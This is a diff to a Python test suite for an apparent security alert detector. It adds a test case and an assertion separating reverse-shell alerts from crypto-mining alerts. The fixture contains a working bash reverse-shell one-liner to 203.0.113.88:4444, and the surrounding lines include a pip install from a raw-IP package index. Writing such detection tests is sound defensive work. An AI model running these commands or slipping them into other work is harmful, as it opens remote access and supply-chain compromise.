@@ -147,6 +147,11 @@ def _stratum_port_only(s):
     s.net("203.0.113.88", 4444, None, protocol="tcp")
 
 
+def _reverse_shell_port_4444(s):
+    cid = s.cmd("bash -i >& /dev/tcp/203.0.113.88/4444 0>&1")
+    s.net("203.0.113.88", 4444, None, protocol="tcp", command_id=cid)
+
+
 def _extra_index_raw_ip(s):
     s.cmd(["pip", "install", "--extra-index-url", "http://45.137.21.9:8080/simple", "acme-internal-utils"])
 
@@ -218,6 +223,7 @@ CASES = [
     ("mining-pool", _pool, {"crypto-mining": "critical"}),
     ("miner-command", _miner_cmd, {"crypto-mining": "critical"}),
     ("stratum-port-only", _stratum_port_only, {"crypto-mining": "high"}),
+    ("reverse-shell-port-4444", _reverse_shell_port_4444, {"reverse-shell": "critical"}),
     ("extra-index-raw-ip", _extra_index_raw_ip, {"package-install-unknown-index": "critical"}),
     ("npm-unknown-registry", _npm_registry_unknown, {"package-install-unknown-index": "high"}),
     ("mass-deletion-12", _mass_delete(12), {"mass-deletion-outside-workspace": "high"}),
@@ -285,6 +291,12 @@ def test_near_miss_stays_quiet(lab, name, build):
     _, wh, ids, _ = lab
     loud = {r: a["severity"] for r, a in alerts_of(wh, ids[name]).items() if a["severity"] in ("high", "critical")}
     assert not loud, f"{name} raised {loud}"
+
+
+def test_a_reverse_shell_on_a_stratum_port_is_not_called_mining(lab):
+    _, wh, ids, _ = lab
+    assert "crypto-mining" not in alerts_of(wh, ids["reverse-shell-port-4444"])
+    assert "crypto-mining" in alerts_of(wh, ids["stratum-port-only"])
 
 
 def test_credential_evidence_names_the_read_and_the_egress(lab):
